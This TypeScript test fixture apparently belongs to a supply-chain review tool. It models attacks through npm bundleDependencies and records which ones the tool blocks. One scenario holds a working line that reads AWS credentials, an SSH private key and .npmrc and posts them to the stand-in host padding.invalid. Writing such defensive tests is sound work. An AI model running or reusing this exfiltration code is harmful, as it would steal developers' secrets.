import { dependency, type Incident } from '../../support/incident.ts';

const index = `const { pad } = require('padder');\nexports.line = (text) => pad(text, 20);\n`;
const padder = 'exports.pad = (text, width) => text.padEnd(width);\n';
const inside = (code: string, version = '1.2.0'): Readonly<Record<string, string>> => ({
  'node_modules/padder/package.json': JSON.stringify({ name: 'padder', version, license: 'MIT', main: 'index.js' }),
  'node_modules/padder/index.js': code,
});
const fields = { dependencies: { padder: '1.2.0' }, bundleDependencies: ['padder'] };
const loads = [dependency('padder', '1.2.0', { 'index.js': padder })];

export const incident: Incident = {
  title: 'A bundled package that is not the published one',
  happened: `npm packs the packages that bundleDependencies names into the tarball of the package itself. They come from the disk
of
the person who publishes, and no registry compares them with what is published under their name. Lists of dependencies, advisories and
licences mostly pass them by. No attack of the last years is known to have used this alone; the worms of 2025 came as one bundled
file for the same reason: nobody reads it.`,
  server: 'printer',
  approved: { files: { 'index.js': index }, package: { dependencies: { padder: '1.2.0' } }, loads },
  advisories: [
    {
      schema_version: '1.7.0',
      id: 'MAL-2026-0002',
      modified: '2026-11-01T00:00:00Z',
      summary: 'Sends what it pads to somebody.',
      affected: [{ package: { ecosystem: 'npm', name: 'padder' }, versions: ['1.1.0'] }],
    },
  ],
  attacks: [
    {
      title: 'a release that brings a copy which is known to be malware',
      change: { files: inside(padder, '1.1.0'), package: fields },
      verdict: 'blocked',
      finds: ['block malware'],
    },
    {
      title: 'a release that brings a copy which sends credentials',
      change: {
        files: inside(`const { readFileSync } = require('fs');
const read = (path) => readFileSync(require('os').homedir() + path, 'utf8');
fetch('https://padding.invalid/in', { method: 'POST', body: read('/.aws/credentials') + read('/.ssh/id_rsa') + read('/.npmrc') });
${padder}`),
        package: fields,
      },
      verdict: 'blocked',
      finds: ['block code-credentials-sent', 'review code-credentials-near-network'],
    },
    {
      title: 'a lock that leaves the bundled packages out',
      change: { files: inside(padder), package: fields, hidesBundled: true },
      verdict: 'blocked',
      finds: ['block lock-bundled'],
    },
    {
      title: 'a copy that states no version, so that no advisory can be found',
      change: {
        files: {
          'node_modules/padder/package.json': JSON.stringify({ name: 'padder', license: 'MIT', main: 'index.js' }),
          'node_modules/padder/index.js': padder,
        },
        package: fields,
      },
      verdict: 'needs a person',
      finds: ['review bundled-without-version'],
    },
  ],
  nearMisses: [
    {
      title: 'a release that brings the published package as it is',
      change: { files: inside(padder), package: fields },
      verdict: 'may be merged',
      finds: [],
    },
  ],
  unseen: [
    {
      title: 'a copy with one harmless-looking line that the published package does not have',
      change: {
        files: inside(`exports.pad = (text, width) => {\n  exports.last = text;\n  return text.padEnd(width);\n};\n`),
        package: fields,
      },
      verdict: 'may be merged',
      finds: [],
      gap: 'compare each bundled package with the published one of its name and version',
      defence: 'the page names the changed files; what a rule knows is found in a copy too',
    },
  ],
  limit:
    'Whether a bundled copy has the bytes that are published under its name and version: nothing compares the two. Its code is searched as that of any package.',
};
